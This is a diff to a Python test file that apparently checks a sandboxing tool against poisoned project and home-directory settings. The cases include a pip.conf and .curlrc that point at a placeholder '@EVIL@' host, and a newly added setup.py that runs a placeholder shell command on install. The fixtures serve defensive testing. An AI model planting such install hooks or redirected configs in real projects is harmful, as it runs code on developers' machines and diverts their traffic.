@@ -72,6 +72,7 @@ CURL: Final = ("curl", "-sS", "-m", "5", "http://@GOOD@/")
 WGET: Final = ("wget", "-q", "-t", "1", "-T", "5", "-O", "-", "http://@GOOD@/")
 PSQL: Final = ("psql", "-h", "localhost", "-p", "@GOODPORT@", "-U", "me", "-c", "select 1", "db")
 PIP: Final = ("pip3", "download", "left-pad", "--no-deps")
+PIP_THERE: Final = ("pip3", "download", "left-pad", "--no-deps", "-i", "http://@GOOD@/", "--retries", "0")
 GH: Final = ("gh", "api", "repos/o/r")
 WAYS: Final = (
     Way("npm: scripts of the package", ("npm", "install"), work=(("package.json", PACKAGE),)),
@@ -110,6 +111,11 @@ WAYS: Final = (
         "pip: index in HOME",
         PIP,
         home=((".config/pip/pip.conf", "[global]\nindex-url = http://@EVIL@/\ntrusted-host = localhost\nretries = 0\n"),),
+    ),
+    Way(
+        "pip: a setup.py of the requirements",
+        ("pip3", "download", "-r", "requirements.txt", "--no-deps"),
+        work=(("requirements.txt", "./p\n"), ("p/setup.py", "import os; os.system('@RUN@')\n")),
     ),
     Way("curl: .curlrc in HOME", CURL, home=((".curlrc", "url = http://@EVIL@/\nproxy = http://@EVIL@/\n"),)),
     Way(
@@ -264,7 +270,7 @@ class Trial:
         return (self.work / "ran").exists() or self.ground.evil.connections > connections or "pwned" in output
 
 
-@pytest.mark.parametrize("command", [FETCH, CURL, WGET, PSQL], ids=lambda words: words[0])
+@pytest.mark.parametrize("command", [FETCH, PIP_THERE, CURL, WGET, PSQL], ids=lambda words: words[0])
 def test_without_hostile_settings_the_tool_reaches_its_service(
     ground: Ground, tmp_path: Path, command: tuple[str, ...]
 ) -> None:
